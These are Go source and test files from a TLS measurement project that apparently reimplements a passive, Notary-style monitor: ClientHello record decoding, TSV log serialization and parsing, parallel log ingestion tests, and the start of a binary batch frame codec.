// ClientOffers reports whether the hello offered a suite matching pred
// (GREASE and unknown code points never match).
func (r *Record) ClientOffers(pred func(registry.Suite) bool) bool {
	return registry.ListHas(r.ClientSuites, pred)
}

// SupportsTLS13 reports whether the client advertised any TLS 1.3 variant in
// supported_versions (§6.4's "client indicates support" metric).
func (r *Record) SupportsTLS13() bool {
	for _, v := range r.ClientSupportedVs {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if v.IsTLS13Variant() {
			return true
		}
	}
	return false
}

// AdvertisedTLS13Variant returns the first (highest-preference) TLS 1.3
// variant offered, or 0 — the per-draft deployment view of §6.4.
func (r *Record) AdvertisedTLS13Variant() registry.Version {
	for _, v := range r.ClientSupportedVs {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if v.IsTLS13Variant() {
			return v
		}
	}
	return 0
}

// --- TSV serialization (Bro-style log line) ---

// tsvVersion tags the log schema.
const tsvVersion = "tlsage-conn-1"

// Header returns the log header lines.
func Header() string {
	return "#separator \\t\n#format " + tsvVersion + "\n#fields\tdate\testablished\tversion\tsuite\tcurve\thb_ack\tsuite_unoffered\talert\tfallback\tsslv2\tclient_version\tclient_suites\tclient_exts\tclient_curves\tclient_pfs\tclient_svs\toffers_hb\tfp\ttruth\tcohort\n"
}

const hexDigits = "0123456789abcdef"

// AppendTSV serializes the record as one log line appended to dst. It
// writes directly into dst — no intermediate builder — so serializing into
// a reused buffer allocates nothing.
func (r *Record) AppendTSV(dst []byte) []byte {
	dst = appendDate(dst, r.Date)
	dst = appendBoolField(dst, r.Established)
	dst = appendHex16(append(dst, '\t'), uint16(r.Version))
	dst = appendHex16(append(dst, '\t'), r.Suite)
	dst = appendHex16(append(dst, '\t'), uint16(r.Curve))
	dst = appendBoolField(dst, r.HeartbeatAck)
	dst = appendBoolField(dst, r.SuiteUnoffer)
	dst = strconv.AppendUint(append(dst, '\t'), uint64(r.AlertDesc), 10)
	dst = appendBoolField(dst, r.UsedFallback)
	dst = appendBoolField(dst, r.SSLv2Hello)
	dst = appendHex16(append(dst, '\t'), uint16(r.ClientVersion))
	dst = appendHexList(append(dst, '\t'), r.ClientSuites)
	dst = appendHexList(append(dst, '\t'), r.ClientExtensions)
	dst = appendHexList(append(dst, '\t'), r.ClientCurves)
	dst = appendHexList(append(dst, '\t'), r.ClientPointFmts)
	dst = appendHexList(append(dst, '\t'), r.ClientSupportedVs)
	dst = appendBoolField(dst, r.OffersHeartbeat)
	dst = appendStrField(dst, r.Fingerprint)
	dst = appendStrField(dst, r.TruthClient)
	dst = appendStrField(dst, r.ServerCohort)
	return append(dst, '\n')
}

func appendBoolField(dst []byte, v bool) []byte {
	if v {
		return append(dst, '\t', 'T')
	}
	return append(dst, '\t', 'F')
}

func appendStrField(dst []byte, s string) []byte {
	dst = append(dst, '\t')
	if s == "" {
		return append(dst, '-')
	}
	return append(dst, s...)
}

// appendHex16 appends v as four lowercase hex digits (%04x).
func appendHex16(dst []byte, v uint16) []byte {
	return append(dst,
		hexDigits[v>>12&0xf], hexDigits[v>>8&0xf],
		hexDigits[v>>4&0xf], hexDigits[v&0xf])
}

// appendZeroPad appends v in decimal, zero-padded to width digits.
func appendZeroPad(dst []byte, v, width int) []byte {
	digits := 1
	for x := v; x >= 10; x /= 10 {
		digits++
	}
	for i := digits; i < width; i++ {
		dst = append(dst, '0')
	}
	return strconv.AppendInt(dst, int64(v), 10)
}

// appendDate appends d as YYYY-MM-DD, matching timeline.Date.String.
func appendDate(dst []byte, d timeline.Date) []byte {
	dst = appendZeroPad(dst, d.Year, 4)
	dst = append(dst, '-')
	dst = appendZeroPad(dst, int(d.Month), 2)
	dst = append(dst, '-')
	return appendZeroPad(dst, d.Day, 2)
}

// appendHexList appends a comma-separated %04x list, "-" when empty. It is
// generic over the registry's uint16- and uint8-backed code point types.
func appendHexList[T ~uint8 | ~uint16](dst []byte, vals []T) []byte {
	if len(vals) == 0 {
		return append(dst, '-')
	}
	for i, v := range vals {
		if i > 0 {
			dst = append(dst, ',')
		}
		dst = appendHex16(dst, uint16(v))
	}
	return dst
}

// ParseTSV parses one log line produced by AppendTSV.
func ParseTSV(line string) (Record, error) {
	var r Record
	if err := ParseTSVInto(&r, line); err != nil {
		return Record{}, err
	}
	return r, nil
}

// ParseTSVInto parses one log line into r, reusing r's slice capacity — the
// pooled counterpart of ParseTSV for the log-ingestion hot path. On error
// r is left in an unspecified partially-filled state.
func ParseTSVInto(r *Record, line string) error {
	r.Reset()
	line = strings.TrimSuffix(line, "\n")
	var fields [20]string
	n := 0
	for s := line; ; {
		i := strings.IndexByte(s, '\t')
		if i < 0 {
			if n < len(fields) {
				fields[n] = s
			}
			n++
			break
		}
		if n < len(fields) {
			fields[n] = s[:i]
		}
		n++
		s = s[i+1:]
	}
	if n != 20 {
		return fmt.Errorf("notary: %d fields, want 20", n)
	}
	var err error
	if r.Date, err = parseDate(fields[0]); err != nil {
		return err
	}
	r.Established = fields[1] == "T"
	if v, err := strconv.ParseUint(fields[2], 16, 16); err == nil {
		r.Version = registry.Version(v)
	} else {
		return err
	}
	if v, err := strconv.ParseUint(fields[3], 16, 16); err == nil {
		r.Suite = uint16(v)
	} else {
		return err
	}
	if v, err := strconv.ParseUint(fields[4], 16, 16); err == nil {
		r.Curve = registry.CurveID(v)
	} else {
		return err
	}
	r.HeartbeatAck = fields[5] == "T"
	r.SuiteUnoffer = fields[6] == "T"
	if v, err := strconv.ParseUint(fields[7], 10, 8); err == nil {
		r.AlertDesc = uint8(v)
	} else {
		return err
	}
	r.UsedFallback = fields[8] == "T"
	r.SSLv2Hello = fields[9] == "T"
	if v, err := strconv.ParseUint(fields[10], 16, 16); err == nil {
		r.ClientVersion = registry.Version(v)
	} else {
		return err
	}
	if r.ClientSuites, err = appendParsedHexList(r.ClientSuites, fields[11]); err != nil {
		return err
	}
	if r.ClientExtensions, err = appendParsedHexList(r.ClientExtensions, fields[12]); err != nil {
		return err
	}
	if r.ClientCurves, err = appendParsedHexList(r.ClientCurves, fields[13]); err != nil {
		return err
	}
	if r.ClientPointFmts, err = appendParsedHexList(r.ClientPointFmts, fields[14]); err != nil {
		return err
	}
	if r.ClientSupportedVs, err = appendParsedHexList(r.ClientSupportedVs, fields[15]); err != nil {
		return err
	}
	r.OffersHeartbeat = fields[16] == "T"
	r.Fingerprint = dashEmpty(fields[17])
	r.TruthClient = dashEmpty(fields[18])
	r.ServerCohort = dashEmpty(fields[19])
	return nil
}

func dashEmpty(s string) string {
	if s == "-" {
		return ""
	}
	return s
}

func parseDate(s string) (timeline.Date, error) {
	i := strings.IndexByte(s, '-')
	if i < 0 {
		return timeline.Date{}, fmt.Errorf("notary: bad date %q", s)
	}
	j := strings.IndexByte(s[i+1:], '-')
	if j < 0 || strings.IndexByte(s[i+1+j+1:], '-') >= 0 {
		return timeline.Date{}, fmt.Errorf("notary: bad date %q", s)
	}
	j += i + 1
	y, err1 := strconv.Atoi(s[:i])
	m, err2 := strconv.Atoi(s[i+1 : j])
	d, err3 := strconv.Atoi(s[j+1:])
	if err1 != nil || err2 != nil || err3 != nil || m < 1 || m > 12 {
		return timeline.Date{}, fmt.Errorf("notary: bad date %q", s)
	}
	return timeline.Date{Year: y, Month: timeMonth(m), Day: d}, nil
}

// appendParsedHexList parses a comma-separated %04x list into dst[:0],
// keeping dst's capacity. "-" and "" parse to an empty list.
func appendParsedHexList[T ~uint8 | ~uint16](dst []T, s string) ([]T, error) {
	dst = dst[:0]
	if s == "-" || s == "" {
		return dst, nil
	}
	for len(s) > 0 {
		var p string
		if i := strings.IndexByte(s, ','); i >= 0 {
			p, s = s[:i], s[i+1:]
		} else {
			p, s = s, ""
		}
		v, err := strconv.ParseUint(p, 16, 16)
		if err != nil {
			return dst, fmt.Errorf("notary: bad hex list element %q", p)
		}
		dst = append(dst, T(v))
	}
	return dst, nil
}
