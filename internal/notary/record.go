// Package notary implements the passive TLS monitor of the study: the
// equivalent of the ICSI SSL Notary's Bro-based collection pipeline. It
// turns observed hello exchanges into connection records, persists them as
// Bro-style tab-separated logs, and aggregates them into the monthly
// statistics behind every figure of the paper.
package notary

import (
	"fmt"
	"strconv"
	"strings"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// Record is the metadata the Notary retains about one observed connection.
// Like the real Notary it keeps no client identity — only the hello
// parameters and the negotiation outcome. TruthClient (the generating
// profile) is recorded by the simulator for evaluation only and is never
// consulted by the analysis pipeline.
type Record struct {
	Date timeline.Date

	// Client Hello side.
	ClientVersion     registry.Version
	ClientSuites      []uint16
	ClientExtensions  []registry.ExtensionID
	ClientCurves      []registry.CurveID
	ClientPointFmts   []registry.ECPointFormat
	ClientSupportedVs []registry.Version
	OffersHeartbeat   bool

	// Negotiation outcome.
	Established  bool
	Version      registry.Version // canonical negotiated version when established
	Suite        uint16
	Curve        registry.CurveID
	HeartbeatAck bool
	SuiteUnoffer bool // server chose a suite the client did not offer
	AlertDesc    uint8
	UsedFallback bool
	SSLv2Hello   bool

	// Fingerprint is the §4 client fingerprint string (GREASE-stripped),
	// filled by the observation pipeline.
	Fingerprint string

	// TruthClient is ground truth for evaluation (profile name); empty in
	// purely passive deployments.
	TruthClient string
	// ServerCohort labels the responding server's cohort for evaluation.
	ServerCohort string
}

// ObserveWire reconstructs the client-side fields of a Record from raw
// ClientHello record bytes, exactly as a passive monitor on the wire would.
// It returns an error for bytes the Bro analyzer would reject.
func (r *Record) ObserveWire(clientHelloRecord []byte) error {
	if wire.IsSSLv2Hello(clientHelloRecord) {
		var v2 wire.SSLv2ClientHello
		if err := v2.DecodeFromBytes(clientHelloRecord); err != nil {
			return err
		}
		r.SSLv2Hello = true
		r.ClientVersion = v2.Version
		r.ClientSuites = wire.TLSSuitesFromSSLv2(v2.CipherSpecs)
		return nil
	}
	rec, _, err := wire.DecodeRecord(clientHelloRecord)
	if err != nil {
		return err
	}
	if rec.Type != wire.ContentHandshake {
		return fmt.Errorf("notary: unexpected record type %v", rec.Type)
	}
	typ, body, _, err := wire.DecodeHandshake(rec.Payload)
	if err != nil {
		return err
	}
	if typ != wire.TypeClientHello {
		return fmt.Errorf("notary: unexpected handshake type %d", typ)
	}
	var ch wire.ClientHello
	if err := ch.DecodeFromBytes(body); err != nil {
		return err
	}
	r.FromClientHello(&ch)
	return nil
}

// FromClientHello fills the client-side fields from a parsed hello.
func (r *Record) FromClientHello(ch *wire.ClientHello) {
	r.ClientVersion = ch.Version
	r.ClientSuites = append([]uint16(nil), ch.CipherSuites...)
	r.ClientExtensions = ch.ExtensionIDs()
	r.ClientCurves = ch.SupportedGroups()
	r.ClientPointFmts = ch.ECPointFormats()
	r.ClientSupportedVs = ch.SupportedVersions()
	r.OffersHeartbeat = ch.OffersHeartbeat()
}

// ClientOffers reports whether the hello offered a suite matching pred
// (GREASE and unknown code points never match).
func (r *Record) ClientOffers(pred func(registry.Suite) bool) bool {
	return registry.ListHas(r.ClientSuites, pred)
}

// SupportsTLS13 reports whether the client advertised any TLS 1.3 variant in
// supported_versions (§6.4's "client indicates support" metric).
func (r *Record) SupportsTLS13() bool {
	for _, v := range r.ClientSupportedVs {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if v.IsTLS13Variant() {
			return true
		}
	}
	return false
}

// AdvertisedTLS13Variant returns the first (highest-preference) TLS 1.3
// variant offered, or 0 — the per-draft deployment view of §6.4.
func (r *Record) AdvertisedTLS13Variant() registry.Version {
	for _, v := range r.ClientSupportedVs {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if v.IsTLS13Variant() {
			return v
		}
	}
	return 0
}

// --- TSV serialization (Bro-style log line) ---

// tsvVersion tags the log schema.
const tsvVersion = "tlsage-conn-1"

// Header returns the log header lines.
func Header() string {
	return "#separator \\t\n#format " + tsvVersion + "\n#fields\tdate\testablished\tversion\tsuite\tcurve\thb_ack\tsuite_unoffered\talert\tfallback\tsslv2\tclient_version\tclient_suites\tclient_exts\tclient_curves\tclient_pfs\tclient_svs\toffers_hb\tfp\ttruth\tcohort\n"
}

// AppendTSV serializes the record as one log line appended to dst.
func (r *Record) AppendTSV(dst []byte) []byte {
	var b strings.Builder
	b.Grow(256)
	b.WriteString(r.Date.String())
	writeBool := func(v bool) {
		if v {
			b.WriteString("\tT")
		} else {
			b.WriteString("\tF")
		}
	}
	writeBool(r.Established)
	fmt.Fprintf(&b, "\t%04x\t%04x\t%04x", uint16(r.Version), r.Suite, uint16(r.Curve))
	writeBool(r.HeartbeatAck)
	writeBool(r.SuiteUnoffer)
	fmt.Fprintf(&b, "\t%d", r.AlertDesc)
	writeBool(r.UsedFallback)
	writeBool(r.SSLv2Hello)
	fmt.Fprintf(&b, "\t%04x", uint16(r.ClientVersion))
	b.WriteByte('\t')
	writeHexList16(&b, r.ClientSuites)
	b.WriteByte('\t')
	writeHexListExt(&b, r.ClientExtensions)
	b.WriteByte('\t')
	writeHexListCurve(&b, r.ClientCurves)
	b.WriteByte('\t')
	writeHexListPF(&b, r.ClientPointFmts)
	b.WriteByte('\t')
	writeHexListVer(&b, r.ClientSupportedVs)
	writeBool(r.OffersHeartbeat)
	b.WriteByte('\t')
	b.WriteString(emptyDash(r.Fingerprint))
	b.WriteByte('\t')
	b.WriteString(emptyDash(r.TruthClient))
	b.WriteByte('\t')
	b.WriteString(emptyDash(r.ServerCohort))
	b.WriteByte('\n')
	return append(dst, b.String()...)
}

func emptyDash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func writeHexList16(b *strings.Builder, vals []uint16) {
	if len(vals) == 0 {
		b.WriteByte('-')
		return
	}
	for i, v := range vals {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(b, "%04x", v)
	}
}

func writeHexListExt(b *strings.Builder, vals []registry.ExtensionID) {
	u := make([]uint16, len(vals))
	for i, v := range vals {
		u[i] = uint16(v)
	}
	writeHexList16(b, u)
}

func writeHexListCurve(b *strings.Builder, vals []registry.CurveID) {
	u := make([]uint16, len(vals))
	for i, v := range vals {
		u[i] = uint16(v)
	}
	writeHexList16(b, u)
}

func writeHexListPF(b *strings.Builder, vals []registry.ECPointFormat) {
	u := make([]uint16, len(vals))
	for i, v := range vals {
		u[i] = uint16(v)
	}
	writeHexList16(b, u)
}

func writeHexListVer(b *strings.Builder, vals []registry.Version) {
	u := make([]uint16, len(vals))
	for i, v := range vals {
		u[i] = uint16(v)
	}
	writeHexList16(b, u)
}

// ParseTSV parses one log line produced by AppendTSV.
func ParseTSV(line string) (Record, error) {
	line = strings.TrimSuffix(line, "\n")
	fields := strings.Split(line, "\t")
	if len(fields) != 20 {
		return Record{}, fmt.Errorf("notary: %d fields, want 20", len(fields))
	}
	var r Record
	var err error
	if r.Date, err = parseDate(fields[0]); err != nil {
		return Record{}, err
	}
	r.Established = fields[1] == "T"
	if v, err := strconv.ParseUint(fields[2], 16, 16); err == nil {
		r.Version = registry.Version(v)
	} else {
		return Record{}, err
	}
	if v, err := strconv.ParseUint(fields[3], 16, 16); err == nil {
		r.Suite = uint16(v)
	} else {
		return Record{}, err
	}
	if v, err := strconv.ParseUint(fields[4], 16, 16); err == nil {
		r.Curve = registry.CurveID(v)
	} else {
		return Record{}, err
	}
	r.HeartbeatAck = fields[5] == "T"
	r.SuiteUnoffer = fields[6] == "T"
	if v, err := strconv.ParseUint(fields[7], 10, 8); err == nil {
		r.AlertDesc = uint8(v)
	} else {
		return Record{}, err
	}
	r.UsedFallback = fields[8] == "T"
	r.SSLv2Hello = fields[9] == "T"
	if v, err := strconv.ParseUint(fields[10], 16, 16); err == nil {
		r.ClientVersion = registry.Version(v)
	} else {
		return Record{}, err
	}
	suites, err := parseHexList(fields[11])
	if err != nil {
		return Record{}, err
	}
	r.ClientSuites = suites
	exts, err := parseHexList(fields[12])
	if err != nil {
		return Record{}, err
	}
	for _, v := range exts {
		r.ClientExtensions = append(r.ClientExtensions, registry.ExtensionID(v))
	}
	curves, err := parseHexList(fields[13])
	if err != nil {
		return Record{}, err
	}
	for _, v := range curves {
		r.ClientCurves = append(r.ClientCurves, registry.CurveID(v))
	}
	pfs, err := parseHexList(fields[14])
	if err != nil {
		return Record{}, err
	}
	for _, v := range pfs {
		r.ClientPointFmts = append(r.ClientPointFmts, registry.ECPointFormat(v))
	}
	svs, err := parseHexList(fields[15])
	if err != nil {
		return Record{}, err
	}
	for _, v := range svs {
		r.ClientSupportedVs = append(r.ClientSupportedVs, registry.Version(v))
	}
	r.OffersHeartbeat = fields[16] == "T"
	r.Fingerprint = dashEmpty(fields[17])
	r.TruthClient = dashEmpty(fields[18])
	r.ServerCohort = dashEmpty(fields[19])
	return r, nil
}

func dashEmpty(s string) string {
	if s == "-" {
		return ""
	}
	return s
}

func parseDate(s string) (timeline.Date, error) {
	parts := strings.Split(s, "-")
	if len(parts) != 3 {
		return timeline.Date{}, fmt.Errorf("notary: bad date %q", s)
	}
	y, err1 := strconv.Atoi(parts[0])
	m, err2 := strconv.Atoi(parts[1])
	d, err3 := strconv.Atoi(parts[2])
	if err1 != nil || err2 != nil || err3 != nil || m < 1 || m > 12 {
		return timeline.Date{}, fmt.Errorf("notary: bad date %q", s)
	}
	return timeline.Date{Year: y, Month: timeMonth(m), Day: d}, nil
}

func parseHexList(s string) ([]uint16, error) {
	if s == "-" || s == "" {
		return nil, nil
	}
	parts := strings.Split(s, ",")
	out := make([]uint16, len(parts))
	for i, p := range parts {
		v, err := strconv.ParseUint(p, 16, 16)
		if err != nil {
			return nil, fmt.Errorf("notary: bad hex list element %q", p)
		}
		out[i] = uint16(v)
	}
	return out, nil
}
