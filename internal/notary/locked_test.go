package notary

import (
	"errors"
	"sync"
	"testing"
	"time"

	"tlsage/internal/timeline"
)

// TestLockedSinkConcurrentProducers hammers one LockedSink-wrapped
// Aggregate from many goroutines (run under -race) and checks the result
// matches the same records delivered serially.
func TestLockedSinkConcurrentProducers(t *testing.T) {
	const producers = 8
	const perProducer = 500

	makeRec := func(p, i int) *Record {
		return &Record{
			Date:         timeline.D(2012+p%3, time.Month(1+i%12), 1+i%28),
			Established:  i%2 == 0,
			ClientSuites: []uint16{0x002f, 0x009c},
		}
	}

	live := NewAggregate()
	ls := NewLockedSink(live)
	var wg sync.WaitGroup
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				if err := ls.Observe(makeRec(p, i)); err != nil {
					t.Errorf("observe: %v", err)
					return
				}
			}
		}(p)
	}
	wg.Wait()
	if err := ls.Close(); err != nil {
		t.Fatal(err)
	}

	serial := NewAggregate()
	for p := 0; p < producers; p++ {
		for i := 0; i < perProducer; i++ {
			serial.Add(makeRec(p, i))
		}
	}
	if got, want := live.TotalRecords(), serial.TotalRecords(); got != want {
		t.Fatalf("locked ingest lost records: %d, want %d", got, want)
	}
	if live.Generation() != serial.Generation() {
		t.Errorf("generation %d, want %d", live.Generation(), serial.Generation())
	}
	for _, m := range serial.Months() {
		a, b := live.Stats(m), serial.Stats(m)
		if b == nil || a == nil || a.Total != b.Total || a.Established != b.Established {
			t.Fatalf("month %v differs under concurrent delivery", m)
		}
	}
}

// errSink counts closes and fails on demand.
type errSink struct {
	observeErr, closeErr error
	observed, closed     int
}

func (e *errSink) Observe(*Record) error { e.observed++; return e.observeErr }
func (e *errSink) Close() error          { e.closed++; return e.closeErr }

func TestLockedSinkPropagatesErrorsAndNil(t *testing.T) {
	boom := errors.New("boom")
	inner := &errSink{observeErr: boom, closeErr: boom}
	ls := NewLockedSink(inner)
	if err := ls.Observe(&Record{}); !errors.Is(err, boom) {
		t.Errorf("observe error not propagated: %v", err)
	}
	if err := ls.Close(); !errors.Is(err, boom) {
		t.Errorf("close error not propagated: %v", err)
	}
	if inner.closed != 1 {
		t.Errorf("inner closed %d times", inner.closed)
	}
	if err := ls.Do(func(s Sink) error { return s.Observe(&Record{}) }); !errors.Is(err, boom) {
		t.Errorf("Do error not propagated: %v", err)
	}

	// A nil inner drops records instead of panicking, so optional consumers
	// can be wired unconditionally.
	empty := NewLockedSink(nil)
	if err := empty.Observe(&Record{}); err != nil {
		t.Errorf("nil-inner observe: %v", err)
	}
	if err := empty.Close(); err != nil {
		t.Errorf("nil-inner close: %v", err)
	}
}
