package notary

import (
	"bytes"
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// buildCorpus writes n random records through a LogWriter and returns the
// log bytes plus the serial-reference aggregate.
func buildCorpus(t testing.TB, seed int64, n int) ([]byte, *Aggregate) {
	t.Helper()
	rnd := rand.New(rand.NewSource(seed))
	all := registry.AllSuites()
	var buf bytes.Buffer
	lw := NewLogWriter(&buf)
	want := NewAggregate()
	for i := 0; i < n; i++ {
		r := randomRecord(rnd, all)
		want.Add(r)
		if err := lw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), want
}

// aggregatesEqual compares two aggregates the way the merge property test
// does: PosSum within epsilon (float addition across shards is not
// associative), everything else exactly.
func aggregatesEqual(t *testing.T, want, got *Aggregate) {
	t.Helper()
	for _, m := range want.Months() {
		wms, gms := want.Stats(m), got.Stats(m)
		if gms == nil {
			t.Fatalf("month %v missing from parallel aggregate", m)
		}
		if len(wms.PosSum) != len(gms.PosSum) {
			t.Fatalf("month %v PosSum keys differ", m)
		}
		for class, wsum := range wms.PosSum {
			if diff := wsum - gms.PosSum[class]; diff > 1e-9 || diff < -1e-9 {
				t.Fatalf("month %v PosSum[%s] off by %g", m, class, diff)
			}
		}
		gms.PosSum = wms.PosSum
	}
	if !reflect.DeepEqual(want, got) {
		t.Fatal("parallel aggregate differs from serial ReadLog")
	}
}

// ReadLogParallel must equal serial ReadLog for every worker count and for
// chunk sizes that sweep the cut across every interesting boundary — mid
// line, exactly on a newline, bigger than the whole log.
func TestReadLogParallelMatchesSerial(t *testing.T) {
	log, want := buildCorpus(t, 3, 700)

	for _, workers := range []int{0, 2, 3, 8, 64} {
		got, err := ReadLogParallel(bytes.NewReader(log), workers)
		if err != nil {
			t.Fatal(err)
		}
		aggregatesEqual(t, want, got)
	}

	rnd := rand.New(rand.NewSource(5))
	chunkSizes := []int{1, 2, 3, 63, 64, 100, len(log) / 3, len(log) - 1, len(log), len(log) + 100}
	for i := 0; i < 20; i++ {
		chunkSizes = append(chunkSizes, 1+rnd.Intn(2000))
	}
	for _, cs := range chunkSizes {
		got, err := readLogParallel(bytes.NewReader(log), 4, cs, nil)
		if err != nil {
			t.Fatalf("chunkSize=%d: %v", cs, err)
		}
		aggregatesEqual(t, want, got)
	}
}

// A log without a trailing newline must still deliver its last record.
func TestReadLogParallelNoTrailingNewline(t *testing.T) {
	log, want := buildCorpus(t, 11, 40)
	trimmed := bytes.TrimSuffix(log, []byte("\n"))
	got, err := readLogParallel(bytes.NewReader(trimmed), 4, 256, nil)
	if err != nil {
		t.Fatal(err)
	}
	aggregatesEqual(t, want, got)
}

// A malformed line must produce the identical "notary: line N" error the
// serial reader reports, for every worker count and chunk size — including
// when several lines are malformed (the earliest wins, as serial stops
// there).
func TestReadLogParallelErrorParity(t *testing.T) {
	log, _ := buildCorpus(t, 7, 300)
	corrupt := func(lines [][]byte, at int) []byte {
		cp := make([][]byte, len(lines))
		copy(cp, lines)
		cp[at] = []byte("garbage\tline")
		return bytes.Join(cp, []byte("\n"))
	}
	lines := bytes.Split(bytes.TrimSuffix(log, []byte("\n")), []byte("\n"))
	for _, at := range []int{3, 50, len(lines) / 2, len(lines) - 1} {
		bad := corrupt(lines, at)
		serialErr := ReadLog(bytes.NewReader(bad), NewAggregate())
		if serialErr == nil {
			t.Fatalf("corrupt@%d: serial reader accepted the line", at)
		}
		for _, workers := range []int{2, 4, 16} {
			for _, cs := range []int{7, 100, 1 << 12, 1 << 22} {
				agg, err := readLogParallel(bytes.NewReader(bad), workers, cs, nil)
				if err == nil {
					t.Fatalf("corrupt@%d workers=%d chunk=%d: parallel reader accepted the line", at, workers, cs)
				}
				if agg != nil {
					t.Errorf("corrupt@%d: non-nil aggregate alongside error", at)
				}
				if err.Error() != serialErr.Error() {
					t.Fatalf("corrupt@%d workers=%d chunk=%d: error %q, serial %q", at, workers, cs, err, serialErr)
				}
			}
		}
	}

	// Two malformed lines: the earliest must win even when a later chunk
	// errors first.
	multi := corrupt(lines, 20)
	multiLines := bytes.Split(multi, []byte("\n"))
	multi = corrupt(multiLines, 250)
	serialErr := ReadLog(bytes.NewReader(multi), NewAggregate())
	par, err := readLogParallel(bytes.NewReader(multi), 8, 64, nil)
	if err == nil || par != nil {
		t.Fatal("double-corrupt log accepted")
	}
	if err.Error() != serialErr.Error() {
		t.Fatalf("double-corrupt: error %q, serial %q", err, serialErr)
	}
}

// The parallel reader must also agree with serial on a stream interleaving
// comments, blank lines and CRLF endings.
func TestReadLogParallelCommentsAndCRLF(t *testing.T) {
	log, _ := buildCorpus(t, 9, 120)
	var decorated strings.Builder
	for i, line := range strings.SplitAfter(string(log), "\n") {
		if line == "" {
			continue
		}
		decorated.WriteString(line)
		if i%7 == 0 {
			decorated.WriteString("# interleaved comment\n")
		}
		if i%11 == 0 {
			decorated.WriteString("\n")
		}
		if i%13 == 0 {
			decorated.WriteString("\r\n")
		}
	}
	want := NewAggregate()
	if err := ReadLog(strings.NewReader(decorated.String()), want); err != nil {
		t.Fatal(err)
	}
	got, err := readLogParallel(strings.NewReader(decorated.String()), 4, 300, nil)
	if err != nil {
		t.Fatal(err)
	}
	aggregatesEqual(t, want, got)
}

// Study-facing sanity: the parallel path over a real simulated log equals
// the streaming aggregate (the cross-layer version of the property above).
func TestReadLogParallelEndToEndDates(t *testing.T) {
	// A tiny deterministic hand-built log exercising date/month spread.
	var buf bytes.Buffer
	lw := NewLogWriter(&buf)
	for m := time.January; m <= time.December; m++ {
		r := sampleRecord()
		r.Date = timeline.D(2016, m, 1+int(m))
		r.Fingerprint = fmt.Sprintf("fp-%d", m)
		if err := lw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := lw.Close(); err != nil {
		t.Fatal(err)
	}
	want := NewAggregate()
	if err := ReadLog(bytes.NewReader(buf.Bytes()), want); err != nil {
		t.Fatal(err)
	}
	got, err := readLogParallel(bytes.NewReader(buf.Bytes()), 3, 128, nil)
	if err != nil {
		t.Fatal(err)
	}
	aggregatesEqual(t, want, got)
	if !reflect.DeepEqual(want.FPDurations(), got.FPDurations()) {
		t.Fatal("FPDurations differ after parallel load")
	}
}
