package notary

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math"

	"tlsage/internal/registry"
)

// Batch codec: a length-prefixed binary frame carrying a batch of Records —
// the wire counterpart of the snapshot codec's on-disk framing, and the
// binary sibling of the TSV log line. A producer packs records into frames
// (EncodeBatch/AppendBatch/BatchWriter); a consumer streams frames back into
// a Sink (ReadBatches). TSV stays the debug/interop path; this format exists
// so ingest cost scales with batch count instead of per-line parsing.
//
// Frame layout:
//
//	offset  size  field
//	0       4     magic "TLSB"
//	4       1     version byte (BatchVersion)
//	5       4     payload length, uint32 little-endian
//	9       N     payload (record count + packed records, see below)
//	9+N     4     CRC32-IEEE of the payload, little-endian
//
// The payload is an unsigned varint record count followed by that many
// packed records. Per record:
//
//	flags byte (bit0 established, bit1 offers_hb, bit2 hb_ack,
//	            bit3 suite_unoffered, bit4 fallback, bit5 sslv2;
//	            high bits must be zero)
//	date (uvarint year, month, day)
//	client_version, version, suite, curve (uvarints, uint16-bounded)
//	alert byte
//	client_suites, client_exts, client_curves, client_pfs, client_svs
//	            (uvarint count + uvarint elements, bounds-checked)
//	fp, truth, cohort (uvarint length + raw bytes)
//
// A stream is any number of frames back to back; EOF at a frame boundary
// ends it cleanly, EOF anywhere else is an error. Decoding is defensive the
// same way the snapshot codec is: every length is bounds-checked against the
// bytes actually present (fuzzed by FuzzReadBatches).

// batchMagic brands batch frames. It differs from the snapshot magic in its
// first bytes read off the wire, which is what lets the TCP listener sniff
// binary streams apart from TSV (no TSV log starts with "TLSB": headers
// start with '#', record lines with a decimal year).
const batchMagic = "TLSB"

// BatchVersion is the batch wire-format version byte written by this build.
// Version 2 marks the generation where aggregates derive fingerprint/client
// attribution counters from Record.Fingerprint; the record payload itself is
// unchanged (the fingerprint was always carried), so readers accept
// batchMinVersion through BatchVersion and reject anything newer — the
// format can evolve without silent misdecodes.
const BatchVersion = 2

// batchMinVersion is the oldest batch version this build still reads.
const batchMinVersion = 1

// batchHeaderLen is magic + version + payload length.
const batchHeaderLen = len(batchMagic) + 1 + 4

// maxBatchPayload caps the payload length a reader will believe. Frames are
// producer-sized (a few hundred records, tens of KiB); a corrupt length
// field must not drive a huge allocation.
const maxBatchPayload = 1 << 26

// DefaultBatchSize is the records-per-frame used by producers that don't
// choose one. Big enough to amortize framing and syscalls, small enough to
// keep frames well under a megabyte.
const DefaultBatchSize = 512

// IsBatchStream reports whether prefix (the first bytes of a stream, at
// least 4 to be conclusive) begins with the batch frame magic. The TCP
// listener peeks ahead with this to route one port between binary batches
// and TSV lines.
func IsBatchStream(prefix []byte) bool {
	return len(prefix) >= len(batchMagic) && string(prefix[:len(batchMagic)]) == batchMagic
}

// BatchError tags a malformed batch frame with its 0-based index in the
// stream. Like LineError for TSV, it separates input the producer must fix
// from internal sink failures — the live service maps it to a 4xx response.
type BatchError struct {
	Frame int
	Err   error
}

func (e *BatchError) Error() string { return fmt.Sprintf("notary: batch frame %d: %v", e.Frame, e.Err) }

func (e *BatchError) Unwrap() error { return e.Err }

// --- encoding ---

// Record flag bits in the batch encoding.
const (
	batchEstablished = 1 << iota
	batchOffersHB
	batchHBAck
